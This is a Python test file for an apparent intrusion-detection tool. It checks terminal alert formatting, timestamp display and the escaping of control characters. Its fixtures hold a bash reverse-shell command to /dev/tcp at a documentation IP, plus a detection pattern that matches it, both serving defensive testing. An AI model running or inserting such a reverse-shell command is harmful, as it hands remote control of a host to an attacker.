"""An alert as a terminal shows it."""

from __future__ import annotations

import msgspec

import sample_intrusion
from tocsin.alert.read import Alert, Evidence
from tocsin.cli.alert_text import alert_lines, short_time
from tocsin.model.condition import And
from tocsin.model.event import nest
from tocsin.model.finding import MetTerm
from tocsin.model.rule import Rule

START = 1_790_000_000_000
ALERT = Alert(
    "0123456789abcdef01234567", "default", "r-1", "Reverse shell", "bash spoke to 198.51.100.23", "critical", 1, [],
    sample_intrusion.ORIGIN, sample_intrusion.HOST, {}, START, START, START, START + 5000, 3, "open", None, None, None,
    None, None, START, START,
)  # fmt: skip
MET = MetTerm("process.cmd_line", "CommandLine|contains: /dev/tcp/", "bash -i >& /dev/tcp/198.51.100.23/4444")


def evidence(process: sample_intrusion.Proc, *times: int) -> list[Evidence]:
    """The launch of a process, at each of these times."""
    launches = [(time, sample_intrusion.launch(process, time, serial)) for serial, time in enumerate(times, 1)]
    return [Evidence(f"e{time}", 1007, time, nest(event), [MET]) for time, event in launches]


def test_an_alert_tells_what_why_who_and_what_to_do() -> None:
    """Title, host, reason, chain with command line and user, and the rule's advice; equal events are one block."""
    rule = Rule("r-1", "Reverse shell", And(()), (1007,), response="Cut the host off.")
    found = evidence(sample_intrusion.REVERSE, START, START + 1000, START + 5000)
    lines = list(alert_lines(ALERT, found, rule))
    text = "\n".join(lines)
    assert lines[0] == "critical   bash spoke to 198.51.100.23"
    assert "host     web-1" in text
    assert text.count("why  process.cmd_line = bash -i >& /dev/tcp/198.51.100.23/4444") == 1
    assert text.count("the rule asks CommandLine|contains: /dev/tcp/") == 1
    assert "apache2 \u203a " in text
    assert "\u203a bash" in text
    assert any("www-data" in line and "bash -c bash -i >& /dev/tcp/" in line for line in lines)
    assert text.count("3 events, 2026-09-21 14:13:20 to 2026-09-21 14:13:25 UTC") == 2
    assert text.endswith("what to do\n    Cut the host off.")


def test_an_intruder_does_not_command_the_terminal() -> None:
    """Control characters in what a host sent are shown, not obeyed."""
    evil = msgspec.structs.replace(ALERT, title="\x1b[2Jnothing\nhere")
    assert next(iter(alert_lines(evil, [], None))) == "critical   \\x1b[2Jnothing\\nhere"


def test_the_year_is_named_unless_it_is_this_one() -> None:
    """An alert of last year cannot be taken for one of this year."""
    assert short_time(START, START + 1000) == "09-21 14:13:20"
    assert short_time(START, START + 366 * 86_400_000) == "2026-09-21 14:13:20"
